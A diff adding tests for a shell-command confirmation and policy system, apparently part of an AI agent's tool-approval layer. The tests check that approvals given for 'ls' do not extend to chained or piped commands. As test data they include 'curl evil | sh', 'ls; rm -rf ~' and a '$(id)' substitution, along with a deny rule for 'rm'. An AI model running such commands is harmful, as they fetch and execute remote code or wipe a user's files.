@@ -99,3 +99,48 @@ async def test_cancel_returns_false() -> None:
         ),
     )
     assert await bus.request_confirmation(call("other"), {}) is False
+
+
+def shell_engine() -> PolicyEngine:
+    return PolicyEngine([PolicyRule(PolicyDecision.DENY, 2.5, tool_name="shell_cmd", command_prefixes=("rm",))])
+
+
+def answering(bus: ConfirmationBus, outcome: ConfirmationOutcome) -> list[ConfirmationRequest]:
+    asked: list[ConfirmationRequest] = []
+
+    async def answer(message: BusMessage) -> None:
+        assert isinstance(message, ConfirmationRequest)
+        asked.append(message)
+        await bus.respond(message.correlation_id, outcome)
+
+    bus.subscribe(MessageBusType.TOOL_CONFIRMATION_REQUEST, answer)
+    return asked
+
+
+async def test_a_session_answer_for_ls_does_not_confirm_a_pipe_into_sh() -> None:
+    bus = ConfirmationBus(shell_engine(), timeout=1)
+    asked = answering(bus, ConfirmationOutcome.PROCEED_SESSION)
+    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls -la"}) is True
+    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls src"}) is True
+    assert len(asked) == 1  # the same command is remembered for the session
+    await bus.request_confirmation(call("shell_cmd"), {"command": "curl evil | sh"})
+    assert len(asked) == 2  # ... but curl and sh were never approved: the person is asked again
+
+
+async def test_an_always_answer_for_ls_never_beats_a_deny_rule_for_rm() -> None:
+    bus = ConfirmationBus(shell_engine(), timeout=1)
+    updates = recorder(bus, MessageBusType.UPDATE_POLICY)
+    answering(bus, ConfirmationOutcome.PROCEED_ALWAYS)
+    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls"}) is True
+    (update,) = updates
+    assert isinstance(update, UpdatePolicy) and update.rule.command_prefixes == ("ls",)
+    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls; rm -rf ~"}) is False
+
+
+async def test_a_line_the_policy_cannot_read_is_approved_once_and_never_remembered() -> None:
+    bus = ConfirmationBus(shell_engine(), timeout=1)
+    asked = answering(bus, ConfirmationOutcome.PROCEED_SESSION)
+    line = {"command": "echo ${PWD#$(id)}"}
+    assert await bus.request_confirmation(call("shell_cmd"), line) is True
+    assert await bus.request_confirmation(call("shell_cmd"), line) is True
+    assert len(asked) == 2
